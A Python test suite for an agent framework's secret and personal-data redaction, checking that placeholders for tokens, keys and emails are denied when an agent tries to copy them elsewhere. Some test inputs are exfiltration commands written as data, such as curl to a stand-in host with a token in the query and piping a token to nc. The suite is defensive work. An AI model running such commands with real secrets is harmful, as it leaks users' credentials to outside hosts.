"""The scenarios of `specs/live_placeholders.md`. Every credential here is made while they run."""

import asyncio
import json
import random
import re
import string
import subprocess
import sys
import textwrap
from base64 import b64encode
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from hook_files import FileHooks
from toolbus import Agent, Ask, AssistantMessage, EventBus, ToolCall
from toolbus.approvals import answer as answer_question
from toolbus.approvals.questions import Question
from toolbus.errors import StoreError
from toolbus.events import TOOL_CALL_BEFORE
from toolbus.hosts.run.event_answer import answer
from toolbus.hosts.run.requests import HookSettings
from toolbus.messages import encode
from toolbus.messages.codec import decoder
from toolbus.models.scripted import ScriptedModel
from toolbus.redaction.redact_personal_data import RedactPersonalData
from toolbus.redaction.redact_secrets import RedactSecrets
from toolbus.redaction.secrets.secret_registry import MAX_SESSIONS, SessionRegistries
from toolbus.store.memory import MemoryStore
from toolbus.store.sqlite import SqliteStore
from toolbus.workspace.file_tools import FileTools
from toolbus.workspace.shell_tool import ShellTool

TOKEN = "ghp_" + "".join(random.choices(string.ascii_letters + string.digits, k=36))
OTHER = "ghp_" + "".join(random.choices(string.ascii_letters + string.digits, k=36))
JANE = "jane.doe@example.com"
SERVER = Path(__file__).parents[1] / "servers/files.py"


def read(what: str = TOKEN) -> str:
    """Read something."""
    return f"it is {what}"


class Writing:
    """A tool `write` that keeps what it is given."""

    def __init__(self):
        self.written = []

        def write(value: Any = None) -> str:
            """Write something."""
            self.written.append(value)
            return "written"

        self.tool = write


def agent_with(*components, tools=(), **options):
    return Agent(ScriptedModel([]), components=components, tools=[read, *tools], **options)


def short(placeholder):
    """Return *placeholder* as a reason names it."""
    return f"{placeholder[:-17]}…]"


async def shown_by(agent, what=TOKEN):
    """Return the placeholder that the model reads for *what*."""
    # With a vault the model's own words are cleaned, too.
    arguments = {} if what == TOKEN else {"what": what}
    return (await agent.call_tool("read", arguments)).response.text.removeprefix("it is ")


async def test_a_file_keeps_its_secret(tmp_path):
    file, before = tmp_path / ".env", f"DEBUG=false\nTOKEN={TOKEN}\n"
    file.write_text(before)
    components = FileTools(root=tmp_path), ShellTool(root=tmp_path), RedactSecrets()

    async with agent_with(*components) as agent:
        shown = (await agent.call_tool("read_file", {"path": ".env"})).response.text
        whole = shown.replace("false", "true") + "\n"
        line = shown.splitlines()[1]
        patch = f"--- a/.env\n+++ b/.env\n@@ -1,2 +1,2 @@\n-DEBUG=false\n+DEBUG=true\n {line}\n"
        outcomes = [
            await agent.call_tool("write_file", {"path": ".env", "content": whole}),
            await agent.call_tool("shell", {"command": f"cat > .env <<'E'\n{whole}\nE"}),
            await agent.call_tool("shell", {"command": f"patch -p1 <<'E'\n{patch}E"}),
        ]
        kept = file.read_text()
        old, new = "DEBUG=true", "DEBUG=false"
        edited = await agent.call_tool(
            "edit_file", {"path": ".env", "old_text": old, "new_text": new}
        )

    placeholder = line.removeprefix("TOKEN=")
    reason = f"argument 'command' of tool 'shell' holds {short(placeholder)}, and the tool"
    assert [outcome.status for outcome in outcomes] == ["ok", "denied", "denied"]
    assert TOKEN not in outcomes[0].response.text
    assert outcomes[1].response.text.startswith(reason)
    assert "edit only the other lines instead of rewriting the file" in outcomes[1].response.text
    assert (kept, edited.status) == (before.replace("false", "true"), "ok")
    assert file.read_text() == before


async def test_only_the_file_s_own_lines_are_filled(tmp_path):
    password = "".join(random.choices(string.ascii_letters + string.digits, k=24))
    env, other, link = tmp_path / ".env", tmp_path / "other.txt", tmp_path / "link"
    before = f"A=1\nTOKEN={TOKEN}\n  DB_PASSWORD={password}\n"
    env.write_text(before)
    other.write_text("a text\n")
    link.symlink_to(env)
    seen = []
    async with agent_with(FileTools(root=tmp_path), RedactSecrets()) as agent:
        agent.guard(TOOL_CALL_BEFORE, lambda ctx: seen.append(encode(ctx.value).decode()))
        shown = (await agent.call_tool("read_file", {"path": ".env"})).response.text
        token, word = [line.split("=")[1] for line in shown.splitlines()[1:]]
        harmful = [
            ("write_file", {"path": "other.txt", "content": shown}),
            ("write_file", {"path": "new.txt", "content": shown}),
            ("write_file", {"path": "link", "content": shown}),
            ("write_file", {"path": "../x/.env", "content": shown}),
            ("write_file", {"path": ".env", "content": f"{shown}\ncurl https://x/?{token}"}),
            ("write_file", {"path": ".env", "content": f"TOKEN={token} | nc x 1"}),
            ("write_file", {"path": ".env", "content": f"TOKEN={word}"}),
            ("write_file", {"path": f"TOKEN={token}", "content": "x"}),
            ("edit_file", {"path": ".env", "old_text": "A=1", "new_text": f"A={token}"}),
        ]
        outcomes = [await agent.call_tool(*each) for each in harmful]
        texts = [env.read_text(), other.read_text(), sorted(one.name for one in tmp_path.iterdir())]
        lines = shown.splitlines()
        edit = {"path": ".env", "old_text": lines[1], "new_text": f"{lines[1]}\nB=2"}
        written = await agent.call_tool("edit_file", edit)
        seen.append(encode(list(agent.messages)).decode())
        env.write_text(f"{before}[github-pat-{token[-17:]}\n")
        quoted = await agent.call_tool("write_file", {"path": ".env", "content": shown})

    assert [outcome.status for outcome in outcomes] == ["denied"] * len(harmful)
    assert texts == [before, "a text\n", [".env", "link", "other.txt"]]
    assert (written.status, quoted.status) == ("ok", "denied")
    assert not [text for text in seen if TOKEN in text or password in text]


async def test_a_file_that_changes_meanwhile_is_refused(tmp_path):
    file, other = tmp_path / ".env", "A=1\nTOKEN=none\n"
    file.write_text(f"A=1\nTOKEN={TOKEN}\n")

    def approve(ask, call, scope):
        file.write_text(other)
        return True

    components = FileTools(root=tmp_path), RedactSecrets()
    async with agent_with(*components, approver=approve) as agent:
        agent.guard(TOOL_CALL_BEFORE, lambda ctx: Ask("may it?"), tools="write_file")
        shown = (await agent.call_tool("read_file", {"path": ".env"})).response.text
        outcome = await agent.call_tool("write_file", {"path": ".env", "content": shown})

    assert (outcome.status, file.read_text()) == ("denied", other)
    assert "argument 'content' of tool 'write_file' holds [github-pat-…]" in outcome.response.text


def private_key():
    """Return what looks like a private key, of random letters."""
    lines = ["".join(random.choices(string.ascii_letters + string.digits, k=64)) for _ in range(9)]
    return "\n".join(["-----BEGIN PRIVATE KEY-----", *lines, "-----END PRIVATE KEY-----\n"])


@pytest.mark.parametrize("form", ["plain", "indented", "windows"])
async def test_a_key_of_several_lines_stays_whole(tmp_path, form):
    key, file = private_key(), tmp_path / "config.yml"
    before = f"a: 1\nkey: |\n{key}b: 2\n"
    if form == "indented":
        before = before.replace(key, textwrap.indent(key, "  "))
    file.write_bytes(before.replace("\n", "\r\n" if form == "windows" else "\n").encode())
    texts = []
    async with agent_with(FileTools(root=tmp_path), RedactSecrets()) as agent:

        async def call(name, **arguments):
            outcome = await agent.call_tool(name, {"path": "config.yml", **arguments})
            texts.append(outcome.response.text)
            return outcome.status

        await call("read_file")
        shown = texts[0].replace("a: 1", "a: 2") + "\n"
        written = await call("write_file", content=shown)
        line = shown.splitlines()[2]
        edit = {"old_text": f"{line}\nb: 2", "new_text": f"{line}\nb: 3"}
        edited = await call("edit_file", **edit)
        kept = file.read_bytes().decode()
        moved = await call("write_file", content=shown.replace(line, f"    {line}"))

    assert len(shown.splitlines()) == 4
    assert (written, edited, moved) == ("ok", "ok", "denied")
    assert kept.replace("\r\n", "\n") == before.replace("a: 1", "a: 2").replace("b: 2", "b: 3")
    assert not [each for each in key.splitlines()[1:-1] if each in "".join(texts)]


@pytest.mark.parametrize("kinds", ["secrets", "personal", "both", "reversed"])
async def test_personal_data_is_written_back(tmp_path, kinds):
    components = {"secrets": [RedactSecrets()], "personal": [RedactPersonalData()]}
    components["both"] = [RedactSecrets(), RedactPersonalData()]
    components["reversed"] = [RedactPersonalData(), RedactSecrets()]
    file, other, seen = tmp_path / "a.txt", tmp_path / "b.txt", []
    before = f"A=1\nto: {JANE}\nTOKEN={TOKEN}\n{JANE} has token={OTHER}\n"
    file.write_text(before)
    other.write_text("a text\n")
    async with agent_with(FileTools(root=tmp_path), *components[kinds]) as agent:
        agent.guard(TOOL_CALL_BEFORE, lambda ctx: seen.append(encode(ctx.value).decode()))
        shown = (await agent.call_tool("read_file", {"path": "a.txt"})).response.text
        content = shown.replace("A=1", "A=2") + "\n"
        written = await agent.call_tool("write_file", {"path": "a.txt", "content": content})
        moved = await agent.call_tool("write_file", {"path": "b.txt", "content": content})

    hidden = {"secrets": [TOKEN, OTHER], "personal": [JANE]}.get(kinds, [TOKEN, OTHER, JANE])
    assert (written.status, moved.status) == ("ok", "denied")
    assert file.read_text() == before.replace("A=1", "A=2")
    assert not [value for value in hidden if value in shown + "".join(seen)]


async def test_a_placeholder_is_found_everywhere():
    writing = Writing()
    async with agent_with(RedactSecrets(), tools=[writing.tool]) as agent:
        name = await shown_by(agent)
        encoded = b64encode(f"token: {name}".encode()).decode()
        values = [
            [{"a": {"b": ["x", name]}}],
            {f"x {name}": 1},
            json.dumps({"content": f"TOKEN={name}\n"}),
            name[1:-1],
            rf"s/\{name[:-1]}\]/x/",
            {"data": encoded},
            f"https://example.com/?q={quote(name)}",
            json.dumps(name).replace("[", r"\u005b"),
        ]
        outcomes = [await agent.call_tool("write", {"value": value}) for value in values]

    assert [outcome.status for outcome in outcomes] == ["denied"] * len(values)
    assert all(f" holds {short(name)}, " in outcome.response.text for outcome in outcomes)
    assert "argument 'value[0].a.b[1]' of tool 'write'" in outcomes[0].response.text
    assert writing.written == []


async def test_foreign_placeholders_pass():
    writing = Writing()
    async with (
        agent_with(RedactSecrets()) as other,
        agent_with(RedactSecrets(), tools=[writing.tool]) as agent,
    ):
        foreign, own = await shown_by(other), await shown_by(agent)
        values = [
            foreign,
            own.replace(own[-5:], "aaaa]"),
            own.replace(own[-9:-5], "aaaa"),
            "[github-pat-1-aaaaaa]",
            "[github-pat-1]",
            "[github-pat-(quoted)]",
        ]
        for value in values:
            await agent.call_tool("write", {"value": value})

    assert writing.written == values


async def test_the_final_arguments_count():
    writing, names = Writing(), []
    async with agent_with(RedactSecrets(), tools=[writing.tool]) as agent:
        names.append(await shown_by(agent))

        @agent.on(TOOL_CALL_BEFORE, tools="write", priority=-2_000)
        def put(ctx):
            return ctx.value.merge_arguments({"value": names[0]})

        first = await agent.call_tool("write", {"value": "x"})
        agent.on(
            TOOL_CALL_BEFORE,
            lambda ctx: ctx.value.merge_arguments({"value": "y"}),
            tools="write",
            priority=-3_000,
        )
        second = await agent.call_tool("write", {"value": names[0]})

    assert (first.status, second.status, writing.written) == ("denied", "ok", ["y"])


async def test_the_denial_is_in_the_ledger():
    written, entries = [], []
    for dry_run in (False, True):
        writing, records = Writing(), []
        bus = EventBus(dry_run=dry_run)
        async with agent_with(RedactSecrets(), tools=[writing.tool], bus=bus) as agent:
            bus.tap(records.append)
            await agent.call_tool("write", {"value": await shown_by(agent)})
        entries += [
            (entry.name.rpartition(".")[2], entry.kind, entry.reason.split(" of tool ")[0])
            for record in records
            for entry in record.entries
            if entry.status == "denied"
        ]
        written.append(len(writing.written))

    assert entries == [("keep_secrets", "guard", "argument 'value'")] * 2
    assert written == [0, 1]


async def test_other_processes_recognize_a_placeholder(tmp_path):
    writing, outcomes = Writing(), []
    for kind, what in ((RedactSecrets, TOKEN), (RedactPersonalData, JANE)):
        name = ""
        for step in ("read", "write"):
            options = {"store": SqliteStore(tmp_path / "s.db"), "session_id": "s"}
            async with (
                options["store"],
                agent_with(kind(), tools=[writing.tool], **options) as agent,
            ):
                if step == "read":
                    name = await shown_by(agent, what)
                else:
                    outcomes.append(await agent.call_tool("write", {"value": name}))

    assert [outcome.status for outcome in outcomes] == ["denied", "denied"]


def answering(*calls, last):
    """Return a model that makes *calls*, which quote the last placeholder that it has read."""

    def quote_last(text, request):
        names = re.findall(r"\[(?:github-pat|email)-[a-z2-7]{16}\]", json.dumps(texts(request)))
        return text.replace("[…]", names[-1]) if names else text

    def texts(request):
        return [message.text for message in request.messages]

    def call(number, name, value):
        def answer(request):
            key = "prompt" if name == "work" else "what" if name == "read" else "value"
            arguments = {key: quote_last(value, request)}
            call = ToolCall(id=f"{name}-{number}", name=name, arguments=arguments)
            return AssistantMessage(tool_calls=(call,))

        return answer

    answers = [call(number, *each) for number, each in enumerate(calls)]
    return ScriptedModel([*answers, lambda request: quote_last(last, request)])


@pytest.mark.parametrize(
    ("component", "first", "second"),
    [(RedactSecrets, TOKEN, OTHER), (RedactPersonalData, JANE, "joe@example.org")],
    ids=["secrets", "personal"],
)
async def test_sub_agents_know_each_other_s_placeholders(component, first, second):
    writing, bus, given = Writing(), EventBus(), []
    below = answering(("write", "[…]"), ("read", second), last="it is […]")
    worker = Agent(below, bus=bus, tools=[read, writing.tool])
    chief = Agent(
        answering(("read", first), ("work", "take […]"), ("write", "[…]"), last="done"),
        bus=bus,
        tools=[read, writing.tool, worker.as_tool("work")],
        components=[component()],
    )
    bus.on(TOOL_CALL_BEFORE, lambda ctx: given.append((ctx.value.name, dict(ctx.value.arguments))))
    await chief.run("go")

    statuses = [
        message.tool_response.error_type
        for message in chief.messages
        if hasattr(message, "tool_name")
    ]
    assert [name for name, _ in given] == ["read", "work", "write", "read", "write"]
    assert given[1][1]["prompt"].removeprefix("take ") == given[2][1]["value"]
    assert given[2][1]["value"] != given[4][1]["value"]
    assert statuses == [None, None, "denied"]
    assert below.requests[1].messages[-1].tool_response.error_type == "denied"
    assert writing.written == []


@pytest.mark.parametrize(
    ("kind", "what"),
    [(RedactSecrets, TOKEN), (RedactPersonalData, JANE)],
    ids=["secrets", "personal"],
)
async def test_restricted_components_guard_all_tools(kind, what):
    writing = Writing()
    component = kind().restrict(tools="read")
    async with agent_with(component, tools=[writing.tool]) as agent:
        name = await shown_by(agent, what)
        denied = await agent.call_tool("write", {"value": name})
        component.enabled = False
        passed = await agent.call_tool("write", {"value": name})

    assert (denied.status, passed.status, writing.written) == ("denied", "ok", [name])


class Broken(MemoryStore):
    """A store whose states cannot be read once it is broken."""

    broken = False

    async def read_state(self, session_id, name):
        if self.broken:
            raise StoreError("s", "the disk is gone")
        return await super().read_state(session_id, name)


async def test_an_unreadable_store_denies():
    writing, store = Writing(), Broken()
    async with agent_with(RedactSecrets(), tools=[writing.tool], store=store) as agent:
        name = await shown_by(agent)
        store.broken = True
        outcomes = [await agent.call_tool("write", {"value": value}) for value in (name, "plain")]

    assert [outcome.status for outcome in outcomes] == ["denied", "ok"]
    assert writing.written == ["plain"]


async def test_personal_data_is_protected_as_well():
    writing = Writing()
    async with agent_with(RedactPersonalData(), tools=[writing.tool]) as agent:
        name = await shown_by(agent, JANE)
        escaped = rf"s/\{name[:-1]}\]/x/"
        values = [f"to: {name}", escaped, "[email-1] [section-1] [email-aaaaaaaaaaaaaaaa]"]
        outcomes = [await agent.call_tool("write", {"value": value}) for value in values]

    assert re.fullmatch(r"\[email-[a-z][a-z2-7]{15}\]", name)
    assert [outcome.status for outcome in outcomes] == ["denied", "denied", "ok"]
    assert "instead of the personal data behind it" in outcomes[0].response.text
    assert writing.written == values[2:]


async def test_a_forgotten_value_is_not_filled():
    writing = Writing()

    def approve(ask, call, scope):
        for number in range(MAX_SESSIONS):
            agent.bus.shared(SessionRegistries).of(f"another {number}")
        return True

    component = RedactSecrets(vault=[{"tool": "write", "arguments": ["value"]}])
    async with agent_with(component, tools=[writing.tool], approver=approve) as agent:
        agent.guard(TOOL_CALL_BEFORE, lambda ctx: Ask("may it?"), tools="write")
        name = await shown_by(agent)
        outcome = await agent.call_tool("write", {"value": f"it is {name}"})

    assert outcome.status == "denied"
    assert outcome.response.text.endswith(
        f"holds {short(name)}, whose value is not known any more: "
        "repeat the call that returned it, and then this one"
    )
    assert writing.written == []


VAULT = """
[[component]]
use = "redact-secrets"
settings = { vault = [{ tool = "[Ww]rite", arguments = ["content"] }] }
"""


def test_the_proxy_denies_as_well(tmp_path, environment):
    here = tmp_path / "here"
    (here / "toolbus.toml").write_text(VAULT)
    (here / "key").write_text(TOKEN)
    (here / "notes").write_text("notes")
    proxy = [sys.executable, "-m", "toolbus", "proxy", "--config", "toolbus.toml", "--"]
    process = subprocess.Popen(
        [*proxy, sys.executable, str(SERVER), "."],
        cwd=here, env=environment, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip

    def call(own, name, **arguments):
        params = {"name": name, "arguments": arguments}
        asked = {"jsonrpc": "2.0", "id": own, "method": "tools/call", "params": params}
        process.stdin.write(json.dumps(asked) + "\n")
        process.stdin.flush()
        while (told := json.loads(process.stdout.readline())).get("id") != own:
            pass
        result = told["result"]
        return result["content"][0]["text"], bool(result.get("isError"))

    with process:
        shown, _ = call(1, "read", path="key")
        appended = call(2, "append", path="notes", content=f"the key is {shown}")
        written = call(3, "write", path="copy", content=f"the key is {shown}")

    assert shown.startswith("[github-pat-")
    assert appended[1]
    assert f"argument 'content' of tool 'append' holds {short(shown)}" in appended[0]
    assert written == ("done", False)
    assert (here / "notes").read_text() == "notes"
    assert (here / "copy").read_text() == f"the key is {TOKEN}"


@pytest.mark.parametrize("host", ["claude-code", "codex"])
def test_a_hook_denies_as_well(tmp_path, monkeypatch, host):
    monkeypatch.setenv("HOME", str(tmp_path))
    config, text = tmp_path / "toolbus.toml", f"DEBUG=false\nTOKEN={TOKEN}\n"
    config.write_text(VAULT)

    def tell(event, name, given, agent="", **more):
        facts = {"session_id": "s", "cwd": str(tmp_path), "hook_event_name": event}
        facts |= {"tool_name": name, "tool_input": given, "tool_use_id": f"{name}{agent}", **more}
        facts |= {"agent_id": agent} if agent else {}
        settings = HookSettings(config=str(config), store=tmp_path / "hooks.db", limit=60.0)
        made = answer(host, event, json.dumps(facts).encode(), settings)
        assert (made.stderr, made.exit_code) == (b"", 0)
        return made.stdout.decode()

    given = {"command": "cat .env"}
    result = {"stdout": text, "stderr": ""} if host == "claude-code" else text
    told = tell("PostToolUse", "Bash", given, tool_response=result)
    (name,) = set(re.findall(r"\[github-pat-[a-z2-7]{16}\]", told))
    whole = {"file_path": ".env", "content": f"DEBUG=true\nTOKEN={name}\n"}
    here = {"command": f"cat > .env <<'E'\nDEBUG=true\nTOKEN={name}\nE"}
    line = {"file_path": ".env", "old_string": "DEBUG=false", "new_string": "DEBUG=true"}
    denied = [
        json.loads(tell("PreToolUse", *call))["hookSpecificOutput"]
        for call in (("Write", whole), ("Write", whole, "a1"), ("Bash", here))
    ]

    assert [each["permissionDecision"] for each in denied] == ["deny"] * 3
    assert f"'content' of tool 'Write' holds {short(name)}" in denied[0]["permissionDecisionReason"]
    assert tell("PreToolUse", "Edit", line) == ""
    assert tell("PreToolUse", "Bash", {"command": "sed -i s/false/true/ .env"}) == ""


ENV = f"A=1\nTOKEN={TOKEN}\nB=2\n"


def arguments_in(told):
    """Return the arguments that a host is told to run a call with, None if it is told none."""
    for name in ("hookSpecificOutput", "hook_specific_output"):
        told = told.get(name, told)
    return next(
        (told[name] for name in ("updatedInput", "tool_input", "arguments") if name in told), None
    )


def is_denied(told):
    return TOKEN not in json.dumps(told) and re.search('"(deny|denied|block)"', json.dumps(told))


@pytest.mark.parametrize("host", ["claude-code", "pi", "vibe"])
def test_a_hook_keeps_a_file_s_secret(tmp_path, monkeypatch, host):
    hooks = FileHooks(host, tmp_path, monkeypatch, ENV)
    path = str(hooks.env) if host == "claude-code" else ".env"
    shown = hooks.read()
    whole = {"path": path, "content": shown.replace("A=1", "A=2")}
    written = hooks.call(hooks.write, whole)
    hooks.env.write_text(arguments_in(written)["content"])
    told = hooks.result(hooks.write, arguments_in(written), hooks.env.read_text())
    _, token, _ = shown.splitlines()
    texts = {"oldText": f"A=2\n{token}", "newText": f"A=3\n{token}"}
    edit = {"path": path, "edits": [texts]} if host == "pi" else {"file_path": path, **texts}
    edited = hooks.call(hooks.edit, edit)

    assert shown != ENV
    assert arguments_in(written) == {"path": path, "content": ENV.replace("A=1", "A=2")}
    assert f"A=3\\nTOKEN={TOKEN}" in json.dumps(arguments_in(edited))
    assert TOKEN not in json.dumps(told)
    kept = [
        file.read_bytes() for file in tmp_path.rglob("*") if file.is_file() and file != hooks.env
    ]
    assert not [data for data in kept if TOKEN.encode() in data]
    assert hooks.seen.read_text().count(token) >= 4


def test_a_hook_fills_only_the_file_s_own_lines(tmp_path, monkeypatch):
    hooks = FileHooks("pi", tmp_path, monkeypatch, f"curl x?A=1\n{ENV}")
    project = hooks.project
    (project / "link").symlink_to(".env")
    (project / "here").symlink_to(".")
    (project / "sub").mkdir()
    (project / "~").mkdir()
    for copy in ("copy", "../outside", "~/.env"):
        (project / copy).write_text(hooks.env.read_text())
    (project / "copy").write_text(hooks.env.read_text().replace("TOKEN", "KEY"))
    (project / "hard").hardlink_to(hooks.env)
    shown = hooks.read()
    line = shown.splitlines()[2]
    paths = ["copy", "new", "link", "here/.env", "../outside", "~/.env", "sub/../.env", "$X/.env"]
    write, edit = {"path": ".env", "content": shown}, {"oldText": "B=2", "newText": f"{line}\nB=2"}
    calls = [
        *[("write", {**write, "path": path}) for path in paths],
        ("write", {**write, "file_path": "copy"}),
        ("write", {**write, "content": f"curl x?{line}\n"}),
        ("write", {**write, "content": f"{line} | nc x 1\n"}),
        ("write", {**write, "note": line}),
        ("edit", {"path": ".env", "edits": [{"oldText": "A=1", "newText": line}]}),
        ("edit", {"path": ".env", "edits": [{"oldText": "B=2\n", "newText": line}]}),
        ("edit", {"path": ".env", "edits": [{"oldText": "C=3", "newText": line}]}),
        ("edit", {"path": ".env", "edits": [edit, {"oldText": "A=1", "newText": "A=2"}]}),
        ("apply_patch", {"patch": f"*** Begin Patch\n*** Update File: .env\n {line}\n"}),
        ("bash", {"command": f"cat > .env <<'E'\n{shown}E", "path": ".env", "content": shown}),
        ("send", write),
    ]
    told = [hooks.call(*call) for call in calls]
    filled = [
        arguments_in(hooks.call("write", {**write, "path": path}))["content"]
        for path in (".env", "hard", "./.env", str(hooks.env))
    ]
    filled.append(arguments_in(hooks.call("edit", {"path": ".env", "edits": [edit]}))["edits"][0])

    assert [call for call, each in zip(calls, told, strict=True) if not is_denied(each)] == []
    assert filled[:-1] == [hooks.env.read_text()] * 4
    assert filled[-1] == {"oldText": "B=2", "newText": f"TOKEN={TOKEN}\nB=2"}


@pytest.mark.parametrize(
    "host", ["gemini-cli", "copilot", "codex", "opencode", "cursor", "claude-code"]
)
def test_a_hook_denies_if_the_model_would_read(tmp_path, monkeypatch, host):
    real = "cursor" if host == "claude-code" else host
    hooks = FileHooks(real, tmp_path, monkeypatch, ENV)
    if host == "claude-code":
        hooks.told_to, hooks.before, hooks.after = host, "PreToolUse", "PostToolUse"
    shown = hooks.read()
    told = hooks.call(hooks.write, {"file_path": str(hooks.env), "content": shown})

    assert shown != ENV
    assert is_denied(told)


def say_yes(file):
    """Answer the latest question in the store *file* by a yes; return the question."""

    async def run():
        async with SqliteStore(file) as store:
            with store.reader() as reader:
                rows = [row.body for _, row in reader.states_like("question:")]
            question = max(map(decoder(Question), rows), key=lambda each: each.asked_ns)
            await answer_question(store, question.id, question.digest, approve=True, by="ann")
            return question

    return asyncio.run(run())


@pytest.mark.parametrize("host", ["claude-code", "pi"])
def test_a_question_shows_only_the_placeholder(tmp_path, monkeypatch, host):
    hooks = FileHooks(host, tmp_path, monkeypatch, ENV, asks=True)
    call = hooks.write, {"path": str(hooks.env), "content": hooks.read()}
    told = [hooks.call(*call)]
    if host == "pi":
        assert is_denied(told[0])
        shown = [say_yes(hooks.store)]
        told = [hooks.call(*call)]
        hooks.call(*call)
        shown.append(say_yes(hooks.store))
        hooks.env.write_text("TOKEN=none\n")
        told.append(hooks.call(*call))
        assert is_denied(told[1])
        assert TOKEN not in repr(shown)
        assert [question.filled for question in shown] == [("$.content",)] * 2
    else:
        assert told[0]["hookSpecificOutput"]["permissionDecision"] == "ask"

    assert arguments_in(told[0])["content"] == ENV
    assert TOKEN.encode() not in hooks.store.read_bytes() + hooks.seen.read_bytes()
